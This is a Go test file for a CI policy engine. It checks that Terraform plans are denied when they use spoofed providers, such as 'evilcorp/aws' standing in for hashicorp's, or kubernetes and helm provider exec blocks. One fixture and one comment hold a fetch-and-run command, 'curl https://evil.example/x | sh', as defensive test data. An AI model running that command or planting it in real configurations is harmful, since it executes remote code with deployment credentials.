package policy_test

import (
	"context"
	"errors"
	"testing"

	"github.com/ztci/ztci/policy"
)

// TestReview21TerraformTypesNeedTheirProvider: allowed_types and
// deletable_types matched a resource type whatever its provider, so
// aws_instance from registry.terraform.io/evilcorp/aws (required_providers
// { aws = { source = "evilcorp/aws" } }) was created or deleted as
// hashicorp's, running evilcorp's provider with the apply's credentials;
// and a data source read during the apply ran any provider's code. A
// listed type counts only from its own provider (hashicorp/<prefix>) or
// one in allowed_providers.
func TestReview21TerraformTypesNeedTheirProvider(t *testing.T) {
	t.Parallel()
	cfg := acmeConfig()
	cfg.Terraform.AllowedTypes = []string{"aws_instance", "cloudflare_record"}
	cfg.Terraform.DeletableTypes = []string{"aws_db_instance", "cloudflare_record"}
	e := newConfigured(t, cfg)
	cfg.Terraform.AllowedProviders = []string{"cloudflare/cloudflare", "tf.acme.example/acme/aws"}
	trusting := newConfigured(t, cfg)

	rc := func(typ, provider string, actions ...any) map[string]any {
		r := map[string]any{"address": typ + ".x", "mode": "managed", "type": typ, "name": "x",
			"change": map[string]any{"actions": actions, "after": map[string]any{}}}
		if provider != "" {
			r["provider_name"] = provider
		}
		if len(actions) == 1 && actions[0] == "delete" {
			r["change"].(map[string]any)["after"] = nil
		}
		if len(actions) == 1 && actions[0] == "read" {
			r["mode"], r["address"] = "data", "data."+typ+".x"
		}
		return r
	}
	plan := func(rcs ...any) policy.Input {
		return policy.Input{Action: policy.ActionTerraformApply, TerraformPlan: map[string]any{"format_version": "1.2", "resource_changes": rcs}}
	}
	const evil, aws, cf = "registry.terraform.io/evilcorp/aws", "registry.terraform.io/hashicorp/aws", "registry.terraform.io/cloudflare/cloudflare"

	for _, tc := range []struct {
		name string
		e    *policy.Engine
		in   policy.Input
		rule string
	}{
		{"allowed type from another provider", e, plan(rc("aws_instance", evil, "create")), "terraform.unknown_type"},
		{"allowed type from a same-named provider on another host", e, plan(rc("aws_instance", "evil.example/hashicorp/aws", "update")), "terraform.unknown_type"},
		{"allowed type from a provider trusted for nothing", trusting, plan(rc("aws_instance", evil, "create")), "terraform.unknown_type"},
		{"allowed partner type without its provider trusted", e, plan(rc("cloudflare_record", cf, "create")), "terraform.unknown_type"},
		{"allowed type whose provider_name is not a string", e, plan(rc("aws_instance", "", "create"), map[string]any{"address": "aws_instance.y", "type": "aws_instance", "provider_name": 1, "change": map[string]any{"actions": []any{"create"}, "after": map[string]any{}}}), "terraform.unknown_type"},
		{"deletable type from another provider", e, plan(rc("aws_db_instance", evil, "delete")), "terraform.delete"},
		{"deletable type replaced by another provider", e, plan(rc("aws_db_instance", evil, "delete", "create")), "terraform.delete"},
		{"data source of another provider read during the apply", e, plan(rc("aws_iam_policy_document", evil, "read")), "terraform.unknown_type"},
		// An untrusted provider runs even for a change that applies nothing
		// (terraform configures it): see review21_tfproviders_test.go.
		{"no-op from an untrusted provider", e, plan(rc("evilcorp_thing", evil, "no-op")), "terraform.untrusted_provider"},
	} {
		wantDeny(t, tc.e, tc.name, tc.in, tc.rule)
	}

	for _, tc := range []struct {
		name string
		e    *policy.Engine
		in   policy.Input
	}{
		{"allowed type from its own provider", e, plan(rc("aws_instance", aws, "create"))},
		{"allowed type from its own provider on OpenTofu's registry", e, plan(rc("aws_instance", "registry.opentofu.org/hashicorp/aws", "create"))},
		{"allowed type naming no provider", e, plan(rc("aws_instance", "", "create"))},
		{"deletable type from its own provider", e, plan(rc("aws_db_instance", aws, "delete"))},
		{"data source read from its own provider", e, plan(rc("aws_iam_policy_document", aws, "read"))},
		{"partner type from a trusted provider", trusting, plan(rc("cloudflare_record", cf, "create"), rc("cloudflare_record", cf, "delete"))},
		{"allowed type from a trusted private registry", trusting, plan(rc("aws_instance", "TF.acme.example/acme/aws", "create"), rc("aws_db_instance", "tf.acme.example/acme/aws", "delete"))},
		{"no-op of an unknown type from a hashicorp provider", e, plan(rc("random_thing", "registry.terraform.io/hashicorp/random", "no-op"))},
	} {
		if d, err := tc.e.Evaluate(context.Background(), tc.in); err != nil || !d.Allowed {
			t.Errorf("%s: denied (%v, %v), want allowed", tc.name, rules(d), err)
		}
	}
}

// TestReview21TerraformAllowedProvidersValidated: an allowed provider
// that is not a provider source would match nothing, or something else
// than meant; it is a configuration error.
func TestReview21TerraformAllowedProvidersValidated(t *testing.T) {
	t.Parallel()
	for _, p := range []string{"", "aws", "a/b/c/d", "cloudflare/", "/cloudflare", "cloud flare/cloudflare", "acme/aws\n"} {
		var c policy.LibraryConfig
		c.Terraform.AllowedProviders = []string{p}
		if err := c.Validate(); !errors.Is(err, policy.ErrInvalidConfig) {
			t.Errorf("%q: Validate: %v, want ErrInvalidConfig", p, err)
		}
	}
	var c policy.LibraryConfig
	c.Terraform.AllowedProviders = []string{"cloudflare/cloudflare", "tf.acme.example/acme/aws"}
	if err := c.Validate(); err != nil {
		t.Errorf("Validate: %v", err)
	}
}

// TestReview21TerraformProviderExec: the kubernetes, helm and kubectl
// providers' exec block (client-go's credential plugin) runs its command
// on the machine that plans and applies, as local-exec does, and the plan
// shows it in configuration.provider_config; a plan whose provider
// configuration had one (exec { command = "sh" args = ["-c", "curl
// evil | sh"] }) was allowed with kubernetes_* in allowed_types. Any
// exec member of a provider configuration's expressions is denied.
func TestReview21TerraformProviderExec(t *testing.T) {
	t.Parallel()
	cfg := acmeConfig()
	cfg.Terraform.AllowedTypes = []string{"kubernetes_namespace", "helm_release"}
	e := newConfigured(t, cfg)

	exec := map[string]any{"api_version": map[string]any{"constant_value": "client.authentication.k8s.io/v1beta1"},
		"command": map[string]any{"constant_value": "sh"}, "args": map[string]any{"constant_value": []any{"-c", "curl https://evil.example/x | sh"}}}
	ns := map[string]any{"address": "kubernetes_namespace.x", "mode": "managed", "type": "kubernetes_namespace", "name": "x",
		"provider_name": "registry.terraform.io/hashicorp/kubernetes",
		"change":        map[string]any{"actions": []any{"create"}, "after": map[string]any{"metadata": []any{map[string]any{"name": "x"}}}}}
	plan := func(providers map[string]any) policy.Input {
		return policy.Input{Action: policy.ActionTerraformApply, TerraformPlan: map[string]any{"format_version": "1.2",
			"resource_changes": []any{ns}, "configuration": map[string]any{"provider_config": providers}}}
	}
	provider := func(name string, expressions map[string]any) map[string]any {
		return map[string]any{"name": name, "full_name": "registry.terraform.io/hashicorp/" + name, "expressions": expressions}
	}

	for _, tc := range []struct {
		name string
		in   policy.Input
	}{
		{"kubernetes exec block", plan(map[string]any{"kubernetes": provider("kubernetes", map[string]any{
			"host": map[string]any{"constant_value": "https://k8s.example"}, "exec": []any{exec}})})},
		{"helm 2 kubernetes block's exec block", plan(map[string]any{"helm": provider("helm", map[string]any{
			"kubernetes": []any{map[string]any{"exec": []any{exec}}}})})},
		{"helm 3 kubernetes attribute's exec", plan(map[string]any{"helm": provider("helm", map[string]any{
			"kubernetes": map[string]any{"constant_value": map[string]any{"host": "https://k8s.example", "exec": map[string]any{"command": "sh"}}}})})},
		{"child module's provider", plan(map[string]any{"module.m:kubernetes": provider("kubernetes", map[string]any{"exec": []any{exec}})})},
	} {
		wantDeny(t, e, tc.name, tc.in, "terraform.provisioner")
	}

	for _, tc := range []struct {
		name string
		in   policy.Input
	}{
		{"kubeconfig file", plan(map[string]any{"kubernetes": provider("kubernetes", map[string]any{"config_path": map[string]any{"constant_value": "~/.kube/config"}})})},
		{"helm 3 kubernetes attribute without exec", plan(map[string]any{"helm": provider("helm", map[string]any{
			"kubernetes": map[string]any{"constant_value": map[string]any{"host": "https://k8s.example", "exec": nil}}})})},
	} {
		if d, err := e.Evaluate(context.Background(), tc.in); err != nil || !d.Allowed {
			t.Errorf("%s: denied (%v, %v), want allowed", tc.name, rules(d), err)
		}
	}
}
